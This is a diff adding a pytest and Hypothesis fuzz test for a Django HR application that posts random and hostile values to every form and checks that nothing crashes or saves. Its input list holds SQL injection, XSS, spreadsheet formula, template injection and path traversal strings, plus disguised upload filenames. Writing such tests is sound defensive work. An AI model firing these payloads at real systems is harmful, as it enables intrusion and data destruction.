@@ -1,0 +1,253 @@
+"""Bad input, property-based: random and hostile values posted to every form view, as the
+role allowed to use it. No 5xx ever; when the form is refused (any answer but a redirect),
+nothing is saved: no table gains or loses a row and the edited record is unchanged.
+
+Field names are read from the page the form lives on (``page``), so a new field is fuzzed
+without touching this file. Every POST route of the URL × role table is either in ``FORMS``
+or in ``NOT_FORMS`` with the reason (``test_every_post_route_is_fuzzed_or_excused``).
+
+Runtime is bounded: few examples per view, no deadline, derandomised for determinism.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+from collections.abc import Callable
+from dataclasses import dataclass
+
+import pytest
+from django.apps import apps
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import transaction
+from django.test import Client
+from django.urls import reverse
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from semarang_asn.core.concurrency import record_version
+from tests.security.test_url_roles import URLS
+
+EXAMPLES = 12
+
+HOSTILE = [
+    "",
+    " ",
+    "0",
+    "-1",
+    "99999999999999999999",
+    "1e309",
+    "NaN",
+    "-0.0000001",
+    "2026-02-30",
+    "31/12/2026",
+    "abc",
+    "'; DROP TABLE positions_employee; --",
+    '" OR 1=1 --',
+    "<script>alert(1)</script>",
+    '=HYPERLINK("http://x"&A1,"Klik")',
+    "{{ 7|add:7 }}{% debug %}",
+    "../../etc/passwd",
+    "\x00",
+    "\u202eRTL\u202c",
+    "１２３",
+    "😀" * 50,
+    "A" * 5000,
+    "199001012015021001",
+    "19900101 201502 1 001",
+]
+
+value = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=40), st.integers().map(str))
+
+
+@dataclass(frozen=True)
+class Form:
+    role: str
+    kw: Callable | None = None  # defaults to the URL table's kwargs
+    page: tuple[str, Callable | None] | None = None  # where the form is shown, when not its own URL
+    target: str | None = None  # world object the form edits: must be unchanged on error
+    form_class: str | None = None  # "app.forms.Name": its fields, when the page shows no form now
+    extra: tuple[str, ...] = ()  # more names to fuzz (a second form on the same URL, a button)
+
+
+EVALUATION_PAGE = ("performance:evaluation", lambda w: {"pk": w.evaluation.pk})
+
+FORMS: dict[str, Form] = {
+    "login": Form("anonymous"),
+    "password_change": Form("employee"),
+    "positions:orgunit_create": Form("hr"),
+    "positions:orgunit_edit": Form("hr", target="unit"),
+    "positions:position_create": Form("hr"),
+    "positions:position_edit": Form("hr", target="position"),
+    "positions:position_standard": Form("hr", target="position"),
+    "positions:employee_create": Form("hr"),
+    "positions:employee_edit": Form("hr", target="employee"),
+    "positions:assignment_add": Form("hr", target="employee"),
+    "positions:rank_add": Form("hr", target="employee"),
+    "positions:discipline_add": Form("hr", target="employee"),
+    "positions:assignment_end": Form("hr", target="assignment"),
+    "positions:assignment_edit": Form("hr", target="assignment"),
+    "positions:rank_edit": Form("hr", target="rank"),
+    "positions:discipline_edit": Form("hr", target="discipline"),
+    "positions:import": Form("hr"),
+    "positions:import_confirm": Form("hr", page=("positions:import", None)),
+    "positions:competency_record": Form("hr", target="employee"),
+    "positions:competency_import": Form("hr"),
+    "positions:competency_import_confirm": Form("hr", page=("positions:competency_import", None)),
+    "performance:row_add": Form("employee", page=EVALUATION_PAGE, target="evaluation"),
+    "performance:row_report": Form("employee", page=EVALUATION_PAGE, target="row"),
+    "performance:row_review": Form("supervisor", page=EVALUATION_PAGE, target="row"),
+    "performance:perilaku": Form("supervisor", page=EVALUATION_PAGE, target="perilaku"),
+    "performance:rate": Form("supervisor", page=EVALUATION_PAGE, target="evaluation"),
+    "performance:objection_file": Form("employee", page=EVALUATION_PAGE, target="evaluation"),
+    "performance:objection_decide": Form("superior", page=EVALUATION_PAGE, target="objection"),
+    "performance:coaching_add": Form("supervisor", page=EVALUATION_PAGE, target="evaluation"),
+    "performance:coaching_status": Form("employee", page=EVALUATION_PAGE, target="coaching"),
+    "performance:cycles": Form("hr"),
+    "performance:set_rater": Form("hr", page=("performance:cycle", lambda w: {"pk": w.cycle.pk})),
+    "performance:calibration": Form(
+        "hr",
+        target="calibration",
+        form_class="performance.forms.CalibrationCloseForm",
+        extra=("close", "unit_predikat"),
+    ),
+    # Registration closed in March: the page shows no form, the view still takes a POST.
+    "assessments:apply": Form("employee", form_class="assessments.forms.ApplyForm"),
+    "assessments:objection_file": Form(
+        "employee", page=("assessments:my_application", lambda w: {"pk": w.application.pk}), target="application"
+    ),
+    "assessments:objection_file_admin": Form(
+        "employee", page=("assessments:my_application", lambda w: {"pk": w.application.pk}), target="application"
+    ),
+    "assessments:hr_create": Form("hr"),
+    "assessments:hr_edit": Form("hr", target="draft_vacancy"),
+    "assessments:hr_committee_add": Form(
+        "hr", page=("assessments:hr_detail", lambda w: {"pk": w.vacancy.pk}), target="vacancy"
+    ),
+    "assessments:hr_external": Form("hr", target="vacancy"),
+    "assessments:hr_verify": Form(
+        "hr", page=("assessments:hr_detail", lambda w: {"pk": w.vacancy.pk}), target="application"
+    ),
+    "assessments:hr_score_adjust": Form("hr", target="score", form_class="assessments.forms.AdjustForm"),
+    "assessments:hr_objection_answer": Form(
+        "hr", page=("assessments:hr_detail", lambda w: {"pk": w.vacancy.pk}), target="selection_objection"
+    ),
+    "assessments:committee_applicant": Form("assessor", target="application", form_class="assessments.forms.ScoreForm"),
+    "assessments:official_decide": Form("ppk", kw=lambda w: {"pk": w.proposed_vacancy.pk}, target="proposed_vacancy"),
+}
+
+# POST routes that take no user input beyond the button (their access is in the URL table).
+NOT_FORMS = {
+    "logout": "a button",
+    "set_language": "Django's own view; the language is a choice",
+    "core:notification_read": "a button",
+    "performance:cycle_action": "buttons; the action is in the URL",
+    "assessments:hr_publish": "a button",
+    "assessments:hr_cancel": "a reason field is fuzzed through hr_detail's forms below",
+    "assessments:hr_admin_announce": "a button",
+    "assessments:hr_committee_remove": "a button",
+    "assessments:hr_committee_confirm": "a button",
+    "assessments:hr_propose": "a button",
+    "assessments:hr_stage_action": "buttons; the action is in the URL",
+}
+
+NAME = re.compile(r'<(?:input|select|textarea)\b[^>]*\bname="([^"]+)"[^>]*>', re.IGNORECASE)
+FILE = re.compile(r'<input\b[^>]*type="file"[^>]*name="([^"]+)"|<input\b[^>]*name="([^"]+)"[^>]*type="file"', re.I)
+# Never fuzzed: the CSRF token (the test client does not check it) and the record version
+# (a stale version is the concurrency drill's business, in tests/core/test_faults.py).
+SKIP = {"csrfmiddlewaretoken", "version", "next", "language"}
+
+
+def test_every_post_route_is_fuzzed_or_excused():
+    posts = {name for name, spec in URLS.items() if spec.method == "post"}
+    missing = sorted(posts - set(FORMS) - set(NOT_FORMS))
+    assert not missing, f"POST routes neither fuzzed (FORMS) nor excused (NOT_FORMS): {missing}"
+    gone = sorted((set(FORMS) | set(NOT_FORMS)) - set(URLS))
+    assert not gone, f"Entries for URLs that no longer exist: {gone}"
+
+
+SNAPSHOT_APPS = ("auth", "positions", "training", "performance", "assessments", "core")
+NOT_SNAPSHOT = {"AuditEvent", "AuditChainHead"}  # a refused change may be audited (by design)
+
+
+def _snapshot(world, target: str | None) -> dict:
+    counts = {
+        model._meta.label: model._default_manager.count()
+        for label in SNAPSHOT_APPS
+        for model in apps.get_app_config(label).get_models()
+        if model.__name__ not in NOT_SNAPSHOT
+    }
+    if target is not None:
+        obj = getattr(world, target)
+        fresh = type(obj)._default_manager.filter(pk=obj.pk).first()
+        counts["target"] = record_version(fresh) if fresh is not None else None
+    return counts
+
+
+def _field_names(client, world, name: str, form: Form) -> tuple[list[str], list[str]]:
+    if form.form_class:
+        from django import forms
+        from django.utils.module_loading import import_string
+
+        declared = import_string(form.form_class).base_fields
+        files = sorted(f for f, field in declared.items() if isinstance(field, forms.FileField))
+        return sorted(set(declared) - set(files) - SKIP | set(form.extra)), files
+    page_name, page_kw = form.page or (name, form.kw or URLS[name].kw)
+    html = client.get(reverse(page_name, kwargs=page_kw(world) if page_kw else None)).content.decode()
+    files = sorted({a or b for a, b in FILE.findall(html)} - SKIP)
+    fields = sorted(set(NAME.findall(html)) - SKIP - set(files) | set(form.extra))
+    return fields, files
+
+
+def _client(world, role: str) -> Client:
+    client = Client()
+    if role != "anonymous":
+        client.force_login(world.users[role])
+    return client
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("name", sorted(FORMS))
+def test_hostile_input_never_crashes_and_a_refused_form_saves_nothing(name, world):
+    form = FORMS[name]
+    kw = form.kw or URLS[name].kw
+    url = reverse(name, kwargs=kw(world) if kw else None)
+    client = _client(world, form.role)
+    fields, files = _field_names(client, world, name, form)
+    assert fields or files, f"{name}: no form fields found on its page"
+    payload = st.fixed_dictionaries(
+        {},
+        optional={
+            **{f: st.one_of(value, st.lists(value, max_size=3)) for f in fields},
+            **{f: st.binary(max_size=200) for f in files},
+        },
+    )
+    filenames = st.sampled_from(["bukti.pdf", "../../x.pdf", "a.xlsx", "data.csv", "x.pdf.exe", "", "é.docx"])
+
+    @settings(
+        max_examples=EXAMPLES,
+        deadline=None,
+        derandomize=True,
+        database=None,
+        suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
+    )
+    @given(data=payload, filename=filenames)
+    def post(data, filename):
+        for f in files:
+            if f in data:
+                data[f] = SimpleUploadedFile(filename or "x", data[f])
+        with transaction.atomic():
+            before = _snapshot(world, form.target)
+            try:
+                response = client.post(url, data)
+            finally:
+                after = _snapshot(world, form.target)
+                transaction.set_rollback(True)
+        if os.environ.get("BAD_INPUT_TRACE"):
+            print(name, response.status_code, sorted(data)[:6])
+        assert response.status_code < 500, f"{name} answered {response.status_code} to {data!r}"
+        if response.status_code != 302:
+            changed = {k: (before[k], after.get(k)) for k in before if before[k] != after.get(k)}
+            assert not changed, f"{name} refused {data!r} ({response.status_code}) but saved: {changed}"
+
+    post()
